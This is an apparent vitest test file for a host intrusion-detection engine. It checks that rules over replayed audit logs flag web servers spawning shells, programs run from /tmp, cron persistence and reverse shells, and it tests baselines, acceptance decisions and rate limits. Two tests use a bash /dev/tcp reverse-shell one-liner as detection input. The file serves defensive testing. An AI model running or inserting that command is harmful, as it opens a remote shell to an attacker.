import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { alertsIn } from '../../agent/baseline/alerts.ts'
import { Decisions } from '../../agent/baseline/decisions.ts'
import { incidentsIn } from '../../agent/baseline/incidents.ts'
import type { Incident, Report } from '../../agent/domain/report.ts'
import type { EngineOptions } from '../../agent/engine.ts'
import { type RuleOptions, ruleBookOf } from '../../agent/rules/read.ts'
import {
  incidents,
  newBaseline,
  NGINX,
  NOON_MS,
  ordinaryLife,
  planAt,
  replay,
  start,
  WINDOW_MS,
} from '../support/engine.ts'
import { folderForTest } from '../support/folder.ts'
import { type Doer, LogBuilder } from '../support/log-builder.ts'

const SKIP: RuleOptions['skip'] = { commands: [], paths: [], users: [] }
const rules = ruleBookOf({ folders: [], disabled: [], skip: SKIP }, [4444])
const SHELL: Doer = { pid: 2000, ppid: 800, exe: '/usr/bin/dash', uid: 33 }
const RUN: Doer = { pid: 2001, ppid: 2000, exe: '/tmp/x', uid: 33 }
const OPTIONS = { rules, alertsFrom: 'medium' } as const
const MINUTE_MS = 60_000
const DECISION = { author: 'me', reason: undefined, timeMs: NOON_MS }

/** A rule of one's own. */
function bookWith(text: string, skip = SKIP) {
  const folder = folderForTest()
  writeFileSync(join(folder, 'r.yaml'), text)
  return ruleBookOf({ folders: [folder], disabled: [], skip }, [])
}

const ruled = (reports: readonly Report[]): Incident[] =>
  incidents(reports).filter(({ rule }) => rule !== undefined)
const rulesOf = (reports: readonly Report[]): (string | undefined)[] => ruled(reports).map(({ rule }) => rule)

/** A trained host, whose nginx is known to serve. */
const trained = (): LogBuilder => ordinaryLife().after(WINDOW_MS)

/** The same as before, in a log of its own. */
const ranAgain = (timeMs: number, pid = 2100): LogBuilder =>
  new LogBuilder(timeMs)
    .connect(NGINX, '192.0.2.1', 443)
    .exec({ ...SHELL, pid }, ['sh'])
    .after(MINUTE_MS)
    .exec({ ...RUN, pid: pid + 1, ppid: pid })

/** Replays into a file that others can read. */
function replayInto(path: string, log: LogBuilder, options: Partial<EngineOptions> = {}): Report[] {
  const baseline = newBaseline(path)
  const { engine, reports } = start(baseline, { ...OPTIONS, plan: planAt(baseline), ...options })
  engine.ingest({ bytes: log.bytes, at: undefined })
  engine.end()
  baseline.close()
  return reports
}

test('a rule that fires is an incident at once, with all that is needed to judge it', () => {
  const baseline = newBaseline()
  const { engine, reports } = start(baseline, OPTIONS)
  const log = trained().exec(SHELL, ['sh', '-c', '/tmp/x -q']).after(MINUTE_MS).exec(RUN, ['/tmp/x', '-q'])
  engine.ingest({ bytes: log.bytes, at: undefined })
  // The window of the second has not ended yet.
  expect(incidents(reports).map(({ rule }) => rule)).toEqual(['service-runs-shell', 'exec-from-temporary'])
  const [, incident] = ruled(reports)
  expect(incident).toMatchObject({
    severity: 'high',
    title: 'a shell (33) ran /tmp/x in a place for temporary files',
    chain: ['proc::33:/usr/sbin/nginx', 'proc::33:/usr/bin/dash', 'proc::33:/tmp/x'],
    count: 1,
    reasons: [
      'anybody may put a program into /tmp/x, and no package does',
      'done by process 2001, child of 2000; no login led to it',
    ],
    edges: [{ kind: 'exec', evidence: { argv: ['/tmp/x', '-q'], pid: 2001, ppid: 2000 } }],
  })
  expect(incident?.next.slice(0, 2)).toEqual([
    expect.stringMatching(/^ausearch --event \d+$/),
    'ls -l /tmp/x',
  ])
  engine.end()
})

test('within a minute a tree of processes is told of by one rule, and by a graver one; the window names the others', () => {
  const relay = { pid: 2002, ppid: 2000, exe: '/usr/bin/dash', uid: 33 }
  const log = trained().exec(SHELL, ['sh']).exec(RUN).create(RUN, '/srv/x').connect(relay, '203.0.113.9', 9)
  const reports = incidents(replay(log, OPTIONS))
  expect(reports.map(({ rule, severity }) => [rule, severity])).toEqual([
    ['service-runs-shell', 'high'],
    ['shell-connects', 'critical'],
    [undefined, 'critical'],
  ])
  expect(reports[2]?.reasons.at(-1)).toBe('these rules are about it, too: exec-from-temporary')
})

test('the same rule on the same chain counts to its incident and alert, until a person decides', () => {
  const path = join(folderForTest(), 'b.db')
  const log = trained().exec(SHELL, ['sh']).after(MINUTE_MS).exec(RUN)
  for (let count = 0; count < 3; count++) log.after(1000).exec({ ...RUN, pid: 2010 + count })
  expect(rulesOf(replayInto(path, log))).toEqual(['service-runs-shell', 'exec-from-temporary'])
  const found = (): { rule: string | undefined; count: number; state: string }[] =>
    [...incidentsIn(path, { withheld: true })].map(({ incident, state }) => ({
      ...{ rule: incident.rule, count: incident.count, state },
    }))
  expect(found()).toContainEqual({ rule: 'exec-from-temporary', count: 4, state: 'open' })
  const [, alert] = alertsIn(path)
  expect(alert).toMatchObject({ source: 'incident', count: 4, incident: 2 })
})

test('what a person has accepted raises nothing more', () => {
  const path = join(folderForTest(), 'b.db')
  const log = trained().exec(SHELL, ['sh']).exec(RUN)
  const reports = replayInto(path, log)
  const decisions = new Decisions(path)
  for (const { id } of incidents(reports)) decisions.accept(id, DECISION)
  decisions.close()
  expect(incidents(replayInto(path, ranAgain(log.timeMs + WINDOW_MS)))).toEqual([])
})

test('what the incident of the window is accepted for settles what rules told of it', () => {
  const path = join(folderForTest(), 'b.db')
  const log = trained().exec(SHELL, ['sh']).exec(RUN).create(RUN, '/srv/x')
  const reports = replayInto(path, log)
  const whole = incidents(reports).find(({ rule }) => rule === undefined)
  const decisions = new Decisions(path)
  expect(decisions.accept(whole?.id ?? 0, DECISION).settled).toEqual(ruled(reports).map(({ id }) => id))
  decisions.close()
  expect(alertsIn(path).filter(({ state }) => state === 'open')).toEqual([])
})

test('a rule for what is not normal is silent in the training, and about what was learned', () => {
  const nginxRunsShell = (log: LogBuilder): LogBuilder => log.exec(SHELL, ['sh', '-c', 'id'])
  const log = nginxRunsShell(new LogBuilder(NOON_MS).connect(NGINX, '192.0.2.1', 443)).after(1000)
  ordinaryLife(log)
  nginxRunsShell(log.after(WINDOW_MS))
  expect(rulesOf(replay(log, OPTIONS))).toEqual([])
})

test('other rules fire also in the training, and about what is known', () => {
  const told = (log: LogBuilder): LogBuilder =>
    log.exec(SHELL, ['sh', '-c', 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'])
  const log = told(new LogBuilder(NOON_MS).connect(NGINX, '192.0.2.1', 443)).after(1000)
  expect(rulesOf(replay(ordinaryLife(log), OPTIONS))).toEqual(['reverse-shell-command'])
})

/** What stands in the baseline of the incidents of a log. */
function foldedIn(log: LogBuilder): { count: number; since: readonly unknown[] }[] {
  const path = join(folderForTest(), 'b.db')
  replayInto(path, log)
  return [...incidentsIn(path, { withheld: true })].map(({ incident: { count }, since }) => ({
    count,
    since,
  }))
}

test('the incident at the end of the window goes on from it, and is none when it says nothing more', () => {
  const one = incidents(replay(trained().exec({ ...RUN, ppid: 1 }), OPTIONS))
  expect(one.map(({ rule, severity }) => [rule, severity])).toEqual([['exec-from-temporary', 'high']])
  expect(foldedIn(trained().exec({ ...RUN, ppid: 1 }))).toEqual([{ count: 1, since: [] }])
  const more = trained()
    .exec({ ...RUN, ppid: 1 })
    .create(RUN, '/srv/x')
  const [first, second] = incidents(replay(more, OPTIONS))
  expect(first?.rule).toBe('exec-from-temporary')
  expect(second?.edges.map(({ kind }) => kind)).toEqual(['exec', 'create'])
  expect(second?.reasons).toContain(`goes on from incident ${first?.id ?? '?'}`)
})

test('packages are no reason to tell', () => {
  const APT: Doer = { pid: 2100, ppid: 1, exe: '/usr/bin/apt-get' }
  const DPKG: Doer = { pid: 2110, ppid: 2100, exe: '/usr/bin/dpkg' }
  const log = trained().exec(APT, ['apt-get', 'install', 'x']).exec(DPKG, ['dpkg', '--unpack', 'x.deb'])
  log.create(DPKG, '/usr/bin/x').create(DPKG, '/etc/cron.d/x')
  // Scripts of packages that apt and rpm put into a place for temporary files to run them.
  const RPM: Doer = { pid: 2120, ppid: 1, exe: '/usr/bin/rpm' }
  log
    .exec({ pid: 2111, ppid: 2100, exe: '/tmp/x.config.Ab12Cd' }, ['/tmp/x.config.Ab12Cd', 'configure'])
    .exec(RPM, ['rpm', '-U', 'x.rpm'])
    .exec({ pid: 2121, ppid: 2120, exe: '/usr/bin/bash' }, ['/bin/sh', '/var/tmp/rpm-tmp.k2Ab1c', '1'])
  expect(rulesOf(replay(log, OPTIONS))).toEqual([])
  const shell = { pid: 2100, ppid: 1, exe: '/usr/bin/bash' }
  const byHand = trained().exec(shell).create(shell, '/usr/bin/x')
  byHand.after(MINUTE_MS).create(shell, '/etc/cron.d/x')
  expect(rulesOf(replay(byHand, OPTIONS))).toEqual(['system-program-replaced', 'persistence-cron'])
})

test('what started a program with the words of another is told once', () => {
  const words = 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'
  const TIMEOUT: Doer = { pid: 2001, ppid: 2000, exe: '/usr/bin/timeout', uid: 33 }
  const log = trained()
    .exec(SHELL, ['sh', '-c', `timeout 9 ${words}`])
    .exec(TIMEOUT, ['timeout', '9', words])
  expect(rulesOf(replay(log, OPTIONS)).filter((rule) => rule === 'reverse-shell-command')).toHaveLength(1)
})

test('who makes a rule fire all the time is told of a few times, and counted', () => {
  const path = join(folderForTest(), 'b.db')
  const log = trained().exec(SHELL, ['sh'])
  // Each in a window of its own.
  for (let count = 0; count < 20; count++)
    log.after(61_000).exec({ ...RUN, pid: 3000 + count, exe: `/tmp/x${count}` })
  const told = ruled(replayInto(path, log)).filter(({ rule }) => rule === 'exec-from-temporary')
  expect(told).toHaveLength(5)
  const counts = [...incidentsIn(path, { withheld: true })]
    .map(({ incident }) => incident)
    .filter(({ rule }) => rule === 'exec-from-temporary')
    .map(({ count }) => count)
  expect(counts).toEqual([1, 1, 1, 1, 16])
})

test('nobody uses up a rule for another user', () => {
  const log = trained()
  for (let count = 0; count < 25; count++) {
    const shell = { pid: 3000 + 2 * count, ppid: 1, exe: `/srv/app/run${count}`, uid: 33 }
    log
      .after(61_000)
      .exec(shell)
      .exec({ ...RUN, pid: shell.pid + 1, ppid: shell.pid, exe: `/tmp/x${count}` })
  }
  log.after(61_000).exec({ pid: 4000, ppid: 1, exe: '/tmp/root', uid: 0 })
  const told = ruled(replay(log, OPTIONS)).filter(({ rule }) => rule === 'exec-from-temporary')
  const of = (user: string): number =>
    told.filter(({ chain }) => chain.at(-1)?.startsWith(`proc::${user}:`)).length
  expect(of('33')).toBe(20)
  expect(of('0')).toBe(1)
})

describe('rules of one’s own', () => {
  const PRIVATE = `- id: no-curl
  type: bin-execution
  title: '{process} ({user}) ran {target}'
  severity: low
  when: { target: { name: curl } }
  reason: we have none
  next: [ask]
`
  const curl = (uid: number): LogBuilder => trained().exec({ pid: 2100, ppid: 1, exe: '/usr/bin/curl', uid })

  test('fire, too', () => {
    expect(rulesOf(replay(curl(0), { ...OPTIONS, rules: bookWith(PRIVATE) }))).toEqual(['no-curl'])
  })

  test.each([
    ['commands', { ...SKIP, commands: ['curl'] }],
    ['paths', { ...SKIP, paths: ['/usr/bin'] }],
    ['users', { ...SKIP, users: ['0'] }],
  ])('are not about the %s that are skipped', (_, skip) => {
    expect(rulesOf(replay(curl(0), { ...OPTIONS, rules: bookWith(PRIVATE, skip) }))).toEqual([])
    const skipping = `${PRIVATE}  skip: ${JSON.stringify(skip)}\n`
    expect(rulesOf(replay(curl(0), { ...OPTIONS, rules: bookWith(skipping) }))).toEqual([])
  })
})

test('what was told is remembered over a restart, and told again after a day', () => {
  const path = join(folderForTest(), 'b.db')
  const log = trained().exec(SHELL, ['sh']).after(MINUTE_MS).exec(RUN)
  const live = { log: '/var/log/audit/audit.log' }
  expect(rulesOf(replayInto(path, log, live))).toEqual(['service-runs-shell', 'exec-from-temporary'])
  expect(rulesOf(replayInto(path, ranAgain(log.timeMs + WINDOW_MS), live))).toEqual([])
  const tomorrow = ranAgain(log.timeMs + 86_400_000, 2200)
  expect(rulesOf(replayInto(path, tomorrow, live))).toEqual(['service-runs-shell', 'exec-from-temporary'])
})
